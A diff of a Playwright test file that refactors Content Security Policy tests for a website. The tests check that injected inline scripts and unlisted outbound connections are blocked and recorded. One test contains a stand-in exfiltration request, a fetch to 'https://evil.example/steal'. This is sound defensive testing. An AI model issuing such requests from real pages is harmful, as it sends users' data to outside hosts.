@@ -1,17 +1,30 @@
 import { DEFAULT_AVATAR } from "@/lib/constants";
-import { collectCspViolations, expect, test } from "./fixtures";
+import type { Browser } from "@playwright/test";
+import { collectCspViolations, expect, test, type CspViolation, type Page } from "./fixtures";
 
 // The policy blocks what an attacker would inject, and the fixture every test uses sees it. The
 // violations are recorded in a context of this test's own, so the fixture of this test (which
 // watches the default context) stays clean.
+/** Runs `body` on a page of a context of its own, with that context's violations recorded. */
+async function ownPage(
+  browser: Browser,
+  baseURL: string | undefined,
+  body: (page: Page, violations: CspViolation[]) => Promise<void>,
+) {
+  const context = await browser.newContext({ baseURL: baseURL! });
+  try {
+    const violations = await collectCspViolations(context);
+    await body(await context.newPage(), violations);
+  } finally {
+    await context.close();
+  }
+}
+
 test("an injected inline script is blocked and the CSP fixture records it", async ({
   browser,
   baseURL,
 }) => {
-  const context = await browser.newContext({ baseURL: baseURL! });
-  try {
-    const violations = await collectCspViolations(context);
-    const page = await context.newPage();
+  await ownPage(browser, baseURL, async (page, violations) => {
     await page.goto("/");
     await page.evaluate(() => {
       const script = document.createElement("script");
@@ -31,27 +44,20 @@ test("an injected inline script is blocked and the CSP fixture records it", asyn
     expect(violations).toContainEqual(
       expect.objectContaining({ directive: "script-src-attr", blocked: "inline" }),
     );
-  } finally {
-    await context.close();
-  }
+  });
 });
 
 test("a connection to an origin the policy does not list is blocked and recorded", async ({
   browser,
   baseURL,
 }) => {
-  const context = await browser.newContext({ baseURL: baseURL! });
-  try {
-    const violations = await collectCspViolations(context);
-    const page = await context.newPage();
+  await ownPage(browser, baseURL, async (page, violations) => {
     await page.goto("/contact");
     await page.evaluate(() => fetch("https://evil.example/steal").catch(() => null));
     await expect
       .poll(() => violations.map((v) => `${v.directive} ${v.blocked}`))
       .toContain("connect-src https://evil.example/steal");
-  } finally {
-    await context.close();
-  }
+  });
 });
 
 test("a testimonial card added later falls back to the default avatar without inline handlers", async ({
